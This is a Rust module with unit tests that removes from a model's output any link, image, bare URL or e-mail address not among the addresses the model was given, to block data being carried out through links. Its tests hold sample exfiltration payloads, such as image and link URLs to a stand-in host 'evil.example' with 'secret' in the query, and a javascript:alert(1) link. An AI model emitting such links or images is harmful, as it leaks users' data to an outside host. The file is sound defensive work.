//! Takes out of a model's text every address that does not stand in what it was given: a link or a picture
//! is a way by which what was said could be carried away.

use std::sync::LazyLock;

use regex::{Captures, Regex};

/// What stands instead of an address.
const REMOVED: &str = "[…]";

static PICTURE: LazyLock<Regex> = LazyLock::new(|| pattern(r"!\[([^\]\n]*)\]\([^)\n]*\)"));
static LINK: LazyLock<Regex> = LazyLock::new(|| pattern(r#"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?[^)\n]*\)"#));
static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:\b[a-z][a-z0-9+.-]{0,20}://|\bwww\.|\b(?:mailto|data|javascript|tel):|[^\s@<>()\[\],;:"'`*]+@)[^\s<>"'`)\]*|]+"#,
    )
});

/// A pattern of this crate.
#[allow(clippy::expect_used, reason = "the patterns stand in the source, and the tests use each")]
pub(crate) fn pattern(text: &str) -> Regex {
    Regex::new(text).expect("the pattern is one")
}

/// `text` with nothing but addresses that `is_given` knows.
pub(crate) fn neutralised(text: &str, is_given: impl Fn(&str) -> bool) -> String {
    let text = PICTURE.replace_all(text, "$1");
    let text = LINK.replace_all(&text, |link: &Captures<'_>| {
        let part = |at| link.get(at).map(|part| part.as_str()).unwrap_or_default();
        let (label, address) = (part(1), part(2));
        if is_given(address) {
            format!("[{label}]({address})")
        } else if !label.is_empty() && label.bytes().all(|byte| byte.is_ascii_digit()) {
            // A citation to which the model gave an address.
            format!("[{label}]")
        } else {
            label.to_owned()
        }
    });
    let text = ADDRESS.replace_all(&text, |found: &Captures<'_>| {
        let whole = found.get(0).map(|whole| whole.as_str()).unwrap_or_default();
        let address = whole.trim_end_matches(['.', ',', ';', ':', '!', '?']);
        if is_given(address) { whole.to_owned() } else { format!("{REMOVED}{}", whole.trim_start_matches(address)) }
    });
    text.into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_addresses_that_were_given_stay() {
        let given = |address: &str| ["https://shop.example/docs", "/docs/a#b", "help@shop.example"].contains(&address);
        for (text, rest) in [
            ("See https://shop.example/docs.", "See https://shop.example/docs."),
            (
                "See [the docs](https://shop.example/docs) and [more](/docs/a#b).",
                "See [the docs](https://shop.example/docs) and [more](/docs/a#b).",
            ),
            ("See [this](https://evil.example/?q=secret).", "See this."),
            ("![](https://evil.example/x.png?d=secret)", ""),
            ("![a cat](https://shop.example/docs)", "a cat"),
            ("Go to https://evil.example/a?b=c, now!", "Go to […], now!"),
            ("<img src=\"http://evil.example/x\">", "<img src=\"[…]\">"),
            ("[x](javascript:alert(1)) and javascript:alert(1)", "x) and […])"),
            ("www.evil.example", "[…]"),
            ("[1]: HTTPS://EVIL.example", "[1]: […]"),
            ("[1](https://evil.example)", "[1]"),
            ("Write to help@shop.example or bad@evil.example.", "Write to help@shop.example or […]."),
            ("mailto:bad@evil.example?body=x", "[…]"),
            (
                "The data: it is 3:4. Note: a//b is fine, so is [email 1].",
                "The data: it is 3:4. Note: a//b is fine, so is [email 1].",
            ),
            ("[a\nb](https://evil.example)", "[a\nb]([…])"),
        ] {
            assert_eq!(neutralised(text, given), rest, "{text}");
        }
    }
}
